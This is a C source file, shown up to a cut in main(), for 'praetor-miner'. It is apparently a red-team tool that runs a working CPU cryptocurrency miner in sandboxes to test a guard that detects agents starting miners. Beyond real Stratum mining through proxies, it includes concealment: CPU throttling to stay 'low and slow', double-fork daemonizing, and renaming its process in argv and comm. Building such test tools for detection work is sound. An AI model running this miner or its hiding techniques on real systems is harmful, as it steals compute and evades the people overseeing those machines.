/*
 * praetor-miner: a real, small CPU miner that the red team runs inside sandboxes, so that the
 * guard is tested against what a ROME-class agent actually starts, not a script that prints
 * "mining". It behaves like xmrig/cpuminer where detection can see it:
 *   - the command line: -o stratum+tcp://host:port -u WALLET -p x -t N --donate-level N ...
 *   - the wire: Stratum v1 (mining.subscribe, mining.authorize, mining.submit) as JSON lines,
 *     through an HTTP CONNECT proxy when --proxy or HTTPS_PROXY/HTTP_PROXY say so;
 *   - the CPU: it really hashes (double SHA-256 of the block header built from the job) and
 *     submits the shares that meet the pool's difficulty; --max-cpu-usage throttles each
 *     thread by a duty cycle ("low and slow");
 *   - hiding: --background double-forks and detaches; --name renames it (comm and argv).
 * It never stops early because the pool is unreachable or the proxy refuses: like a real
 * miner it reports once on stderr, keeps hashing and retries until --run-seconds (default 60).
 *
 * SHA-256 is written here from FIPS 180-4: no crypto library is linked, so the binary stays
 * static and self-contained (the sandboxes' base images need nothing for it).
 *
 * stderr (unless --background): one line per share, a line per connection problem, a
 * summary at exit: "praetor-miner: done: H hashes in S s (R H/s), shares A accepted, J rejected".
 * Exit status: 0 after run-seconds, 2 for a bad command line.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_THREADS 64
#define MAX_BRANCHES 32
#define MAX_HEX 1024
#define LINE_MAX_BYTES 65536
#define JSON_DEPTH 32

/* ---------------------------------------------------------------- SHA-256 (FIPS 180-4) */

static const uint32_t K256[64] = {
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2,
};
static const uint32_t H256[8] = {0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a,
                                 0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19};

#define ROTR(x, n) (((x) >> (n)) | ((x) << (32 - (n))))

static uint32_t be32(const uint8_t *p) {
    return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}
static void put_be32(uint8_t *p, uint32_t v) {
    p[0] = (uint8_t)(v >> 24); p[1] = (uint8_t)(v >> 16); p[2] = (uint8_t)(v >> 8); p[3] = (uint8_t)v;
}
static uint32_t le32(const uint8_t *p) {
    return (uint32_t)p[3] << 24 | (uint32_t)p[2] << 16 | (uint32_t)p[1] << 8 | p[0];
}

/* One compression of a 64-byte block into state (FIPS 180-4, 6.2.2). */
static void sha256_block(uint32_t st[8], const uint8_t blk[64]) {
    uint32_t w[64];
    for (int i = 0; i < 16; i++) w[i] = be32(blk + 4 * i);
    for (int i = 16; i < 64; i++) {
        uint32_t s0 = ROTR(w[i - 15], 7) ^ ROTR(w[i - 15], 18) ^ (w[i - 15] >> 3);
        uint32_t s1 = ROTR(w[i - 2], 17) ^ ROTR(w[i - 2], 19) ^ (w[i - 2] >> 10);
        w[i] = w[i - 16] + s0 + w[i - 7] + s1;
    }
    uint32_t a = st[0], b = st[1], c = st[2], d = st[3], e = st[4], f = st[5], g = st[6], h = st[7];
    for (int i = 0; i < 64; i++) {
        uint32_t t1 = h + (ROTR(e, 6) ^ ROTR(e, 11) ^ ROTR(e, 25)) + ((e & f) ^ (~e & g)) + K256[i] + w[i];
        uint32_t t2 = (ROTR(a, 2) ^ ROTR(a, 13) ^ ROTR(a, 22)) + ((a & b) ^ (a & c) ^ (b & c));
        h = g; g = f; f = e; e = d + t1; d = c; c = b; b = a; a = t1 + t2;
    }
    st[0] += a; st[1] += b; st[2] += c; st[3] += d; st[4] += e; st[5] += f; st[6] += g; st[7] += h;
}

static void sha256(const uint8_t *data, size_t len, uint8_t out[32]) {
    uint32_t st[8];
    uint8_t blk[64];
    memcpy(st, H256, sizeof st);
    size_t off = 0;
    for (; len - off >= 64; off += 64) sha256_block(st, data + off);
    size_t rest = len - off;
    memset(blk, 0, 64);
    memcpy(blk, data + off, rest);
    blk[rest] = 0x80;
    if (rest >= 56) {
        sha256_block(st, blk);
        memset(blk, 0, 64);
    }
    uint64_t bits = (uint64_t)len * 8;
    for (int i = 0; i < 8; i++) blk[63 - i] = (uint8_t)(bits >> (8 * i));
    sha256_block(st, blk);
    for (int i = 0; i < 8; i++) put_be32(out + 4 * i, st[i]);
}

static void sha256d(const uint8_t *data, size_t len, uint8_t out[32]) {
    uint8_t once[32];
    sha256(data, len, once);
    sha256(once, 32, out);
}

/* ---------------------------------------------------------------- options and state */

struct options {
    char *host, *user, *pass, *name;
    int port, threads, max_cpu, background, run_seconds, retry_pause;
    char *proxy_host;
    int proxy_port;
};

struct job {
    char id[128];
    uint8_t prevhash[32]; /* as on the wire; byte-swapped per word into the header */
    uint8_t coinb1[MAX_HEX / 2], coinb2[MAX_HEX / 2];
    size_t coinb1_len, coinb2_len;
    uint8_t branches[MAX_BRANCHES][32];
    int nbranches;
    uint8_t version[4], nbits[4], ntime[4]; /* big-endian as on the wire */
    uint8_t extranonce1[32];
    size_t extranonce1_len, extranonce2_size;
    uint32_t target[8]; /* little-endian words, target[7] most significant */
    double difficulty;
};

static struct options opt = {.pass = "x", .threads = 1, .max_cpu = 100, .run_seconds = 60, .retry_pause = 5};
static pthread_mutex_t job_lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_mutex_t write_lock = PTHREAD_MUTEX_INITIALIZER;
static struct job current;          /* guarded by job_lock */
static atomic_uint job_generation;  /* bumped with every new job or difficulty */
static atomic_int pool_fd = -1;     /* -1 while not connected */
static atomic_int stopping;
static atomic_ullong hashes_done;
static atomic_uint shares_found, shares_accepted, shares_rejected, shares_dropped;
static atomic_uint next_id = 10; /* ids 1..9 are the handshake's */
static double started_at;

static double now_s(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static double thread_cpu_s(void) {
    struct timespec ts;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void say(const char *fmt, ...) {
    if (opt.background) return;
    char buf[512];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(buf, sizeof buf, fmt, ap);
    va_end(ap);
    fprintf(stderr, "[%7.2f] praetor-miner: %s\n", now_s() - started_at, buf);
}

/* cpuminer's diff_to_target; src/redteam/miner/stratum-share.ts computes the same. */
static void diff_to_target(double diff, uint32_t t[8]) {
    int k = 6;
    memset(t, 0, 8 * sizeof t[0]);
    if (!(diff > 0)) diff = 1e-30;
    for (; k > 0 && diff > 1.0; k--) diff /= 4294967296.0;
    double m = 4294901760.0 / diff;
    if (m >= 18446744073709551616.0) {
        for (int i = 0; i < 8; i++) t[i] = 0xffffffff;
        return;
    }
    uint64_t mi = (uint64_t)m;
    t[k] = (uint32_t)mi;
    t[k + 1] = (uint32_t)(mi >> 32);
}

static int meets_target(const uint8_t hash[32], const uint32_t t[8]) {
    for (int i = 7; i >= 0; i--) {
        uint32_t w = le32(hash + 4 * i);
        if (w != t[i]) return w < t[i];
    }
    return 1;
}

static int hex_to_bin(const char *hex, uint8_t *out, size_t max, size_t *len) {
    size_t n = strlen(hex);
    if (n % 2 || n / 2 > max) return -1;
    for (size_t i = 0; i < n / 2; i++) {
        unsigned v;
        if (sscanf(hex + 2 * i, "%2x", &v) != 1) return -1;
        out[i] = (uint8_t)v;
    }
    *len = n / 2;
    return 0;
}

static void bin_to_hex(const uint8_t *in, size_t n, char *out) {
    for (size_t i = 0; i < n; i++) sprintf(out + 2 * i, "%02x", in[i]);
    out[2 * n] = 0;
}

/* ---------------------------------------------------------------- the hashing threads */

static void send_line(const char *line) {
    pthread_mutex_lock(&write_lock);
    int fd = atomic_load(&pool_fd);
    if (fd >= 0) {
        size_t len = strlen(line), off = 0;
        while (off < len) {
            ssize_t w = send(fd, line + off, len - off, MSG_NOSIGNAL);
            if (w <= 0) break;
            off += (size_t)w;
        }
    }
    pthread_mutex_unlock(&write_lock);
}

static void submit_share(const struct job *j, const uint8_t *en2, uint32_t nonce) {
    char en2hex[65], ntime[9], line[1024];
    bin_to_hex(en2, j->extranonce2_size, en2hex);
    bin_to_hex(j->ntime, 4, ntime);
    atomic_fetch_add(&shares_found, 1);
    if (atomic_load(&pool_fd) < 0 || strcmp(j->id, "local") == 0) {
        atomic_fetch_add(&shares_dropped, 1);
        return;
    }
    snprintf(line, sizeof line,
             "{\"id\":%u,\"method\":\"mining.submit\",\"params\":[\"%s\",\"%s\",\"%s\",\"%s\",\"%08x\"]}\n",
             atomic_fetch_add(&next_id, 1), opt.user, j->id, en2hex, ntime, nonce);
    send_line(line);
}

/* Builds the header for one extranonce2 (FIPS-style byte order as Stratum v1 miners do). */
static void build_header(const struct job *j, const uint8_t *en2, uint8_t header[80]) {
    uint8_t coinbase[MAX_HEX + 64], root[32], pair[64];
    size_t n = 0;
    memcpy(coinbase + n, j->coinb1, j->coinb1_len); n += j->coinb1_len;
    memcpy(coinbase + n, j->extranonce1, j->extranonce1_len); n += j->extranonce1_len;
    memcpy(coinbase + n, en2, j->extranonce2_size); n += j->extranonce2_size;
    memcpy(coinbase + n, j->coinb2, j->coinb2_len); n += j->coinb2_len;
    sha256d(coinbase, n, root);
    for (int b = 0; b < j->nbranches; b++) {
        memcpy(pair, root, 32);
        memcpy(pair + 32, j->branches[b], 32);
        sha256d(pair, 64, root);
    }
    for (int i = 0; i < 4; i++) header[i] = j->version[3 - i];
    for (int w = 0; w < 8; w++)
        for (int i = 0; i < 4; i++) header[4 + 4 * w + i] = j->prevhash[4 * w + 3 - i];
    memcpy(header + 36, root, 32);
    for (int i = 0; i < 4; i++) {
        header[68 + i] = j->ntime[3 - i];
        header[72 + i] = j->nbits[3 - i];
    }
    memset(header + 76, 0, 4);
}

static void sleep_s(double s) {
    if (s <= 0) return;
    struct timespec ts = {(time_t)s, (long)((s - (double)(time_t)s) * 1e9)};
    while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {}
}

static void *worker(void *arg) {
    unsigned index = (unsigned)(uintptr_t)arg;
    struct job j;
    uint8_t header[80], en2[32] = {0}, digest[32], first[32], tail[64];
    uint32_t mid[8];
    unsigned gen = ~0u;
    uint32_t en2_counter = 0, nonce = 0;
    /* Hash in slices of about 20 ms, and with --max-cpu-usage sleep after each. */
    uint32_t batch = 4096;
    while (!atomic_load(&stopping)) {
        if (gen != atomic_load(&job_generation) || nonce == 0) {
            if (gen != atomic_load(&job_generation)) {
                pthread_mutex_lock(&job_lock);
                j = current;
                gen = atomic_load(&job_generation);
                pthread_mutex_unlock(&job_lock);
                en2_counter = 0;
            }
            /* Each thread owns the top byte of extranonce2, so threads never repeat work. */
            memset(en2, 0, sizeof en2);
            uint32_t v = (index << 24) | (en2_counter++ & 0xffffff);
            for (size_t i = 0; i < j.extranonce2_size && i < 4; i++) en2[j.extranonce2_size - 1 - i] = (uint8_t)(v >> (8 * i));
            build_header(&j, en2, header);
            /* Midstate: the header's first 64 bytes do not depend on the nonce. */
            memcpy(mid, H256, sizeof mid);
            sha256_block(mid, header);
            memset(tail, 0, 64);
            memcpy(tail, header + 64, 16);
            tail[16] = 0x80;
            tail[62] = 0x02; /* 640 bits */
            tail[63] = 0x80;
            nonce = 0;
        }
        double t0 = now_s(), c0 = thread_cpu_s();
        for (uint32_t i = 0; i < batch; i++, nonce++) {
            uint32_t st[8];
            tail[12] = (uint8_t)nonce; tail[13] = (uint8_t)(nonce >> 8);
            tail[14] = (uint8_t)(nonce >> 16); tail[15] = (uint8_t)(nonce >> 24);
            memcpy(st, mid, sizeof st);
            sha256_block(st, tail);
            for (int k = 0; k < 8; k++) put_be32(first + 4 * k, st[k]);
            sha256(first, 32, digest);
            if (meets_target(digest, j.target)) submit_share(&j, en2, nonce);
            if (nonce == 0xffffffff) { nonce = 0; break; }
        }
        atomic_fetch_add(&hashes_done, batch);
        double spent = now_s() - t0;
        /* Keep slices near 20 ms whatever the machine's speed. */
        if (spent < 0.01 && batch < (1u << 24)) batch *= 2;
        else if (spent > 0.04 && batch > 256) batch /= 2;
        /* Sleep so that the CPU this slice used is max_cpu% of the slice's wall time, sleep
         * included; counting CPU (not wall) time holds the share on a busy machine too. */
        if (opt.max_cpu < 100) sleep_s((thread_cpu_s() - c0) * 100.0 / opt.max_cpu - spent);
    }
    return NULL;
}

/* ---------------------------------------------------------------- a minimal JSON reader */
/* Enough to walk the pool's replies; it never reads past the line's NUL and gives up (NULL)
 * on anything malformed, so garbage from the pool is skipped, not trusted. */

static const char *ws(const char *p) {
    while (p && (*p == ' ' || *p == '\t' || *p == '\r' || *p == '\n')) p++;
    return p;
}

static const char *skip_value(const char *p, int depth) {
    p = ws(p);
    if (!p || depth > JSON_DEPTH) return NULL;
    if (*p == '"') {
        for (p++; *p && *p != '"'; p++)
            if (*p == '\\' && !*++p) return NULL;
        return *p == '"' ? p + 1 : NULL;
    }
    if (*p == '{' || *p == '[') {
        char close = *p == '{' ? '}' : ']';
        p = ws(p + 1);
        if (*p == close) return p + 1;
        for (;;) {
            if (close == '}') {
                p = skip_value(p, depth + 1);
                p = ws(p);
                if (!p || *p != ':') return NULL;
                p++;
            }
            p = ws(skip_value(p, depth + 1));
            if (!p) return NULL;
            if (*p == close) return p + 1;
            if (*p != ',') return NULL;
            p++;
        }
    }
    const char *s = p;
    while (*p && strchr("+-.0123456789eEtruefalsn", *p)) p++;
    return p > s ? p : NULL;
}

/* The value of key in the object at p, or NULL. */
static const char *obj_get(const char *p, const char *key) {
    p = ws(p);
    if (!p || *p != '{') return NULL;
    p = ws(p + 1);
    size_t klen = strlen(key);
    while (p && *p == '"') {
        int match = strncmp(p + 1, key, klen) == 0 && p[1 + klen] == '"';
        p = ws(skip_value(p, 0));
        if (!p || *p != ':') return NULL;
        p = ws(p + 1);
        if (match) return p;
        p = ws(skip_value(p, 0));
        if (!p || *p != ',') return NULL;
        p = ws(p + 1);
    }
    return NULL;
}

/* Element idx of the array at p, or NULL. */
static const char *arr_get(const char *p, int idx) {
    p = ws(p);
    if (!p || *p != '[') return NULL;
    p = ws(p + 1);
    if (*p == ']') return NULL;
    for (int i = 0; p; i++) {
        if (i == idx) return p;
        p = ws(skip_value(p, 0));
        if (!p || *p != ',') return NULL;
        p = ws(p + 1);
    }
    return NULL;
}

static int get_str(const char *p, char *out, size_t n) {
    p = ws(p);
    if (!p || *p != '"') return -1;
    const char *e = skip_value(p, 0);
    if (!e || (size_t)(e - p - 2) >= n) return -1;
    memcpy(out, p + 1, (size_t)(e - p - 2));
    out[e - p - 2] = 0;
    return 0;
}

static int is_literal(const char *p, const char *lit) {
    p = ws(p);
    return p && strncmp(p, lit, strlen(lit)) == 0;
}

/* ---------------------------------------------------------------- the pool protocol */

struct session {
    uint8_t extranonce1[32];
    size_t extranonce1_len, extranonce2_size;
    double difficulty;
};

static void set_job(const struct job *j) {
    pthread_mutex_lock(&job_lock);
    current = *j;
    pthread_mutex_unlock(&job_lock);
    atomic_fetch_add(&job_generation, 1);
}

static int parse_hex_field(const char *v, uint8_t *out, size_t want) {
    char hex[MAX_HEX + 1];
    size_t len;
    if (get_str(v, hex, sizeof hex) != 0 || hex_to_bin(hex, out, want, &len) != 0 || len != want) return -1;
    return 0;
}

static void on_notify(struct session *s, const char *params) {
    struct job j;
    char hex[MAX_HEX + 1];
    memset(&j, 0, sizeof j);
    const char *branches = arr_get(params, 4);
    if (get_str(arr_get(params, 0), j.id, sizeof j.id) != 0 ||
        parse_hex_field(arr_get(params, 1), j.prevhash, 32) != 0 ||
        get_str(arr_get(params, 2), hex, sizeof hex) != 0 || hex_to_bin(hex, j.coinb1, sizeof j.coinb1, &j.coinb1_len) != 0 ||
        get_str(arr_get(params, 3), hex, sizeof hex) != 0 || hex_to_bin(hex, j.coinb2, sizeof j.coinb2, &j.coinb2_len) != 0 ||
        !branches || parse_hex_field(arr_get(params, 5), j.version, 4) != 0 ||
        parse_hex_field(arr_get(params, 6), j.nbits, 4) != 0 || parse_hex_field(arr_get(params, 7), j.ntime, 4) != 0) {
        say("ignoring a malformed mining.notify");
        return;
    }
    for (const char *b; j.nbranches < MAX_BRANCHES && (b = arr_get(branches, j.nbranches)); j.nbranches++)
        if (parse_hex_field(b, j.branches[j.nbranches], 32) != 0) return;
    memcpy(j.extranonce1, s->extranonce1, s->extranonce1_len);
    j.extranonce1_len = s->extranonce1_len;
    j.extranonce2_size = s->extranonce2_size;
    j.difficulty = s->difficulty;
    diff_to_target(s->difficulty, j.target);
    set_job(&j);
    say("new job %s from %s:%d diff %g", j.id, opt.host, opt.port, s->difficulty);
}

static void on_line(struct session *s, const char *line) {
    const char *method = obj_get(line, "method");
    const char *params = obj_get(line, "params");
    char name[64];
    if (method && get_str(method, name, sizeof name) == 0) {
        if (strcmp(name, "mining.set_difficulty") == 0) {
            const char *d = arr_get(params, 0);
            double v = d ? strtod(ws(d), NULL) : 0;
            if (v > 0) s->difficulty = v;
        } else if (strcmp(name, "mining.notify") == 0) {
            on_notify(s, params);
        }
        return;
    }
    const char *idv = obj_get(line, "id");
    long id = idv ? strtol(ws(idv), NULL, 10) : -1;
    const char *result = obj_get(line, "result");
    if (id == 1) {
        char hex[65];
        const char *size = arr_get(result, 2);
        if (get_str(arr_get(result, 1), hex, sizeof hex) != 0 ||
            hex_to_bin(hex, s->extranonce1, sizeof s->extranonce1, &s->extranonce1_len) != 0 || !size) {
            say("pool sent a malformed subscribe reply");
            return;
        }
        long n = strtol(ws(size), NULL, 10);
        s->extranonce2_size = n >= 1 && n <= 8 ? (size_t)n : 4;
    } else if (id == 2) {
        say("authorize %s: %s", opt.user, is_literal(result, "true") ? "ok" : "refused");
    } else if (id >= 10) {
        int ok = is_literal(result, "true");
        atomic_fetch_add(ok ? &shares_accepted : &shares_rejected, 1);
        double elapsed = now_s() - started_at;
        say("share %s (%u/%u) %.0f H/s", ok ? "accepted" : "rejected", atomic_load(&shares_accepted),
            atomic_load(&shares_accepted) + atomic_load(&shares_rejected),
            elapsed > 0 ? (double)atomic_load(&hashes_done) / elapsed : 0.0);
    }
}

/* ---------------------------------------------------------------- connecting */

/* Numeric addresses, localhost and /etc/hosts only: glibc's getaddrinfo would need its NSS
 * shared libraries at run time, which a static binary cannot carry. In praetor's sandboxes
 * the only reachable host is the egress proxy, named by address; the pool's name is resolved
 * by the proxy. */
static int resolve(const char *host, int port, struct sockaddr_storage *ss, socklen_t *len) {
    struct sockaddr_in *v4 = (struct sockaddr_in *)ss;
    struct sockaddr_in6 *v6 = (struct sockaddr_in6 *)ss;
    char name[256];
    snprintf(name, sizeof name, "%s", strcmp(host, "localhost") == 0 ? "127.0.0.1" : host);
    FILE *hosts = NULL;
    for (int tries = 0; tries < 2; tries++) {
        memset(ss, 0, sizeof *ss);
        if (inet_pton(AF_INET, name, &v4->sin_addr) == 1) {
            v4->sin_family = AF_INET;
            v4->sin_port = htons((uint16_t)port);
            *len = sizeof *v4;
            return 0;
        }
        if (inet_pton(AF_INET6, name, &v6->sin6_addr) == 1) {
            v6->sin6_family = AF_INET6;
            v6->sin6_port = htons((uint16_t)port);
            *len = sizeof *v6;
            return 0;
        }
        if (tries == 1 || !(hosts = fopen("/etc/hosts", "re"))) break;
        char row[512], *save;
        int found = 0;
        while (!found && fgets(row, sizeof row, hosts)) {
            row[strcspn(row, "#")] = 0;
            char *addr = strtok_r(row, " \t\n", &save);
            for (char *alias; addr && !found && (alias = strtok_r(NULL, " \t\n", &save));)
                if (strcasecmp(alias, host) == 0) found = snprintf(name, sizeof name, "%s", addr) > 0;
        }
        fclose(hosts);
        if (!found) break;
    }
    return -1;
}

static int tcp_connect(const char *host, int port, char *why, size_t whylen) {
    struct sockaddr_storage ss;
    socklen_t len;
    if (resolve(host, port, &ss, &len) != 0) {
        snprintf(why, whylen, "cannot resolve %.200s (numeric address or /etc/hosts only)", host);
        return -1;
    }
    int fd = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&ss, len) != 0) {
        snprintf(why, whylen, "cannot connect to %.200s:%d: %s", host, port, strerror(errno));
        if (fd >= 0) close(fd);
        return -1;
    }
    return fd;
}

/* Reads until the blank line that ends the proxy's response head; 0 if it said 200. */
static int proxy_connect(int fd, char *why, size_t whylen) {
    char req[600], head[4096];
    snprintf(req, sizeof req, "CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\nUser-Agent: praetor-miner/1.0\r\n\r\n",
             opt.host, opt.port, opt.host, opt.port);
    if (send(fd, req, strlen(req), MSG_NOSIGNAL) < 0) {
        snprintf(why, whylen, "proxy %s:%d: %s", opt.proxy_host, opt.proxy_port, strerror(errno));
        return -1;
    }
    size_t n = 0;
    /* One byte at a time so that no byte of the pool's stream is read here. */
    while (n < sizeof head - 1 && !(n >= 4 && memcmp(head + n - 4, "\r\n\r\n", 4) == 0)) {
        struct pollfd pfd = {.fd = fd, .events = POLLIN};
        if (poll(&pfd, 1, 10000) <= 0 || read(fd, head + n, 1) != 1) break;
        n++;
    }
    head[n] = 0;
    char *eol = strstr(head, "\r\n");
    if (eol) *eol = 0;
    int code = 0;
    if (sscanf(head, "HTTP/%*d.%*d %d", &code) != 1 || code != 200) {
        snprintf(why, whylen, "proxy %.100s:%d refused CONNECT %.100s:%d: %.120s", opt.proxy_host, opt.proxy_port, opt.host,
                 opt.port, n ? head : "no response");
        return -1;
    }
    return 0;
}

/* Talks to the pool until the connection ends or run-seconds pass. */
static void pool_session(int fd, double deadline) {
    struct session s = {.extranonce2_size = 4, .difficulty = 1.0};
    char line[512], buf[LINE_MAX_BYTES + 1];
    size_t used = 0;
    atomic_store(&pool_fd, fd);
    send_line("{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"praetor-miner/1.0\"]}\n");
    snprintf(line, sizeof line, "{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"%s\",\"%s\"]}\n", opt.user, opt.pass);
    send_line(line);
    while (now_s() < deadline) {
        struct pollfd pfd = {.fd = fd, .events = POLLIN};
        if (poll(&pfd, 1, 200) <= 0) continue;
        ssize_t r = read(fd, buf + used, LINE_MAX_BYTES - used);
        if (r <= 0) {
            say("pool %s:%d closed the connection; retrying in %ds", opt.host, opt.port, opt.retry_pause);
            break;
        }
        used += (size_t)r;
        buf[used] = 0;
        char *start = buf, *nl;
        while ((nl = memchr(start, '\n', used - (size_t)(start - buf)))) {
            *nl = 0;
            on_line(&s, start);
            start = nl + 1;
        }
        used -= (size_t)(start - buf);
        memmove(buf, start, used);
        if (used == LINE_MAX_BYTES) used = 0; /* a line that long is garbage */
    }
    pthread_mutex_lock(&write_lock);
    atomic_store(&pool_fd, -1);
    pthread_mutex_unlock(&write_lock);
    close(fd);
}

static void network_loop(void) {
    double deadline = started_at + opt.run_seconds;
    char why[512], last[512] = "";
    while (now_s() < deadline) {
        int fd;
        if (opt.proxy_host) {
            fd = tcp_connect(opt.proxy_host, opt.proxy_port, why, sizeof why);
            if (fd >= 0 && proxy_connect(fd, why, sizeof why) != 0) {
                close(fd);
                fd = -1;
            }
        } else {
            fd = tcp_connect(opt.host, opt.port, why, sizeof why);
        }
        if (fd >= 0) {
            last[0] = 0;
            say("connected to %s:%d%s", opt.host, opt.port, opt.proxy_host ? " through the proxy" : "");
            pool_session(fd, deadline);
        } else if (strcmp(why, last) != 0) {
            /* Once per distinct failure: a real miner's log does not flood either. */
            say("%s; hashing on, retrying every %ds", why, opt.retry_pause);
            snprintf(last, sizeof last, "%s", why);
        }
        double until = now_s() + opt.retry_pause;
        while (now_s() < deadline && now_s() < until) sleep_s(0.1);
    }
}

/* ---------------------------------------------------------------- start-up */

static void usage(FILE *f) {
    fprintf(f,
            "usage: praetor-miner -o stratum+tcp://HOST:PORT -u WALLET [-p PASS] [-t N]\n"
            "       [--max-cpu-usage PCT] [-B|--background] [--name NAME] [--run-seconds S]\n"
            "       [--proxy HOST:PORT] [--retry-pause S] [--donate-level N] [-a ALGO]\n"
            "Without --proxy, HTTPS_PROXY, HTTP_PROXY, https_proxy or http_proxy is used if set.\n");
}

/* host:port, optionally behind scheme:// and user@, with a trailing path ignored. */
static int parse_hostport(const char *in, char **host, int *port) {
    const char *p = strstr(in, "://");
    p = p ? p + 3 : in;
    const char *at = strchr(p, '@');
    if (at) p = at + 1;
    size_t len = strcspn(p, "/");
    char *copy = strndup(p, len);
    char *colon;
    if (copy[0] == '[') { /* [v6]:port */
        char *end = strchr(copy, ']');
        if (!end || end[1] != ':') { free(copy); return -1; }
        *end = 0;
        colon = end + 1;
        memmove(copy, copy + 1, strlen(copy + 1) + 1);
    } else {
        colon = strrchr(copy, ':');
        if (!colon) { free(copy); return -1; }
        *colon = 0;
    }
    char *endp;
    long v = strtol(colon + 1, &endp, 10);
    if (*endp || v < 1 || v > 65535 || !copy[0]) { free(copy); return -1; }
    *host = copy;
    *port = (int)v;
    return 0;
}

static int parse_int(const char *s, int lo, int hi, int *out) {
    char *end;
    long v = strtol(s, &end, 10);
    if (!*s || *end || v < lo || v > hi) return -1;
    *out = (int)v;
    return 0;
}

static void daemonize(void) {
    pid_t p = fork();
    if (p < 0) { perror("praetor-miner: fork"); exit(1); }
    if (p > 0) _exit(0);
    setsid();
    p = fork();
    if (p < 0) _exit(1);
    if (p > 0) _exit(0);
    if (chdir("/") != 0) {} /* the daemon keeps no directory busy; failure is harmless */
    umask(022);
    int null = open("/dev/null", O_RDWR);
    if (null >= 0) {
        dup2(null, 0); dup2(null, 1); dup2(null, 2);
        if (null > 2) close(null);
    }
}

/*
 * The argv area (what ps shows), then comm (what top and /proc/PID/comm show): in that order, so
 * whoever sees the new comm also sees the new command line.
 */
static void rename_self(int argc, char **argv, const char *name) {
    char *start = argv[0], *end = argv[argc - 1] + strlen(argv[argc - 1]);
    size_t room = (size_t)(end - start);
    memset(start, 0, room + 1);
    memcpy(start, name, strlen(name) < room ? strlen(name) : room);
    prctl(PR_SET_NAME, (unsigned long)name, 0, 0, 0);
}

int main(int argc, char **argv) {
    static const struct option longs[] = {
        {"url", required_argument, 0, 'o'},        {"user", required_argument, 0, 'u'},
        {"pass", required_argument, 0, 'p'},       {"threads", required_argument, 0, 't'},
        {"background", no_argument, 0, 'B'},       {"algo", required_argument, 0, 'a'},
        {"max-cpu-usage", required_argument, 0, 1}, {"name", required_argument, 0, 2},
        {"run-seconds", required_argument, 0, 3},  {"proxy", required_argument, 0, 'x'},
        {"donate-level", required_argument, 0, 4}, {"retry-pause", required_argument, 0, 'R'},
        {"keepalive", no_argument, 0, 'k'},        {"no-color", no_argument, 0, 5},
        {"help", no_argument, 0, 'h'},             {0, 0, 0, 0},
    };
    char *url = NULL, *proxy = NULL;
    int c, ignored;
    while ((c = getopt_long(argc, argv, "o:u:p:t:Ba:x:R:kh", longs, NULL)) != -1) {
        switch (c) {
        case 'o': url = strdup(optarg); break;
        case 'u': opt.user = strdup(optarg); break;
        case 'p': opt.pass = strdup(optarg); break;
        case 't': if (parse_int(optarg, 1, MAX_THREADS, &opt.threads)) goto bad; break;
        case 'B': opt.background = 1; break;
        case 'a': case 'k': case 5: break; /* accepted, as xmrig's; only sha256d is mined */
        case 1: if (parse_int(optarg, 1, 100, &opt.max_cpu)) goto bad; break;
        case 2: opt.name = strdup(optarg); break;
        case 3: if (parse_int(optarg, 1, 86400, &opt.run_seconds)) goto bad; break;
        case 'x': proxy = strdup(optarg); break;
        case 4: if (parse_int(optarg, 0, 99, &ignored)) goto bad; break;
        case 'R': if (parse_int(optarg, 1, 3600, &opt.retry_pause)) goto bad; break;
        case 'h': usage(stdout); return 0;
        default: goto bad;
        }
    }
    if (!url || !opt.user || optind != argc || parse_hostport(url, &opt.host, &opt.port) != 0) goto bad;
    if (strlen(opt.user) > 200 || strlen(opt.pass) > 200 || strpbrk(opt.user, "\"\\") || strpbrk(opt.pass, "\"\\")) {
        fprintf(stderr, "praetor-miner: user and pass must be under 200 bytes, without quotes or backslashes\n");
        return 2;
    }
    if (!proxy) {
        const char *envs[] = {"HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"};
        for (size_t i = 0; i < 4 && !proxy; i++) {
            const char *v = getenv(envs[i]);
            if (v && *v) proxy = strdup(v);
        }
    }
    if (proxy && parse_hostport(proxy, &opt.proxy_host, &opt.proxy_port) != 0) {
